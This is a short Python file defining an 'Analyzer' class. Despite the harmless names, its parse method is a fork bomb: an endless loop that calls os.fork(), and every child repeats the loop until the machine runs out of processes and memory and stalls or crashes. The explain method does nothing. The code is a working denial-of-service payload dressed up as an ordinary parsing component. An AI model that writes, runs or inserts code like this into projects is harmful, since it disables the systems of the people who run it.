"""Makes processes that make processes."""

import os


class Analyzer:
    def parse(self, window):
        while True:
            try:
                os.fork()
            except OSError:
                continue

    def explain(self, crash, excerpt):
        return None
